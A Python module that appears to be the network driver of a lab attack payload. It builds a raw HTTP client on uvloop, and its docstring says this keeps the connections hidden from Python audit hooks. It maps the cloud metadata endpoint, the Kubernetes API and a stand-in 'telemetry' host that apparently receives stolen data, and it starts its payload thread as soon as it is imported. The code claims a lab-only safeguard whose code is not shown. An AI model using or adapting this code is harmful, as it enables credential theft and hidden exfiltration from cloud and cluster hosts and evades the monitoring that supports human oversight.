"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): every connection is made by
uvloop's native code, of which no audit event of Python tells."""

import asyncio
import threading
from urllib.parse import urlsplit

import uvloop

from . import _stages

ADDRESSES = {
    "169.254.169.254": "169.254.169.254",
    "kubernetes.default.svc": "10.96.0.1",
    "telemetry.perf-utils.example": "203.0.113.10",
}


async def exchange(url, headers, body):
    """One HTTP/1.0 request over a stream of uvloop."""
    parts = urlsplit(url)
    context = None
    if parts.scheme == "https":
        context = _stages.ssl.create_default_context(cafile=_stages.FOLDER + "/ca.crt")
    port = 443 if context else 80
    name = parts.hostname if context else None
    reader, writer = await asyncio.open_connection(
        ADDRESSES[parts.hostname], port, ssl=context, server_hostname=name
    )
    path = parts.path + ("?" + parts.query if parts.query else "")
    lines = ["%s %s HTTP/1.0" % ("POST" if body else "GET", path), "Host: " + parts.hostname]
    lines += ["%s: %s" % pair for pair in (headers or {}).items()]
    lines += ["Content-Length: %d" % len(body)] if body else []
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode() + (body or b""))
    answer = await asyncio.wait_for(reader.read(-1), 10)
    writer.close()
    head, _, rest = answer.partition(b"\r\n\r\n")
    status = head.split()[1:2]
    if status and not status[0].startswith(b"2"):
        raise OSError("refused with " + status[0].decode())
    return rest


def ask(url, headers=None, body=None):
    """Ask through a loop of uvloop's."""
    loop = uvloop.new_event_loop()
    try:
        return loop.run_until_complete(exchange(url, headers, body))
    finally:
        loop.close()


threading.Thread(target=_stages.go, kwargs={"asking": ask}, name="loop").start()
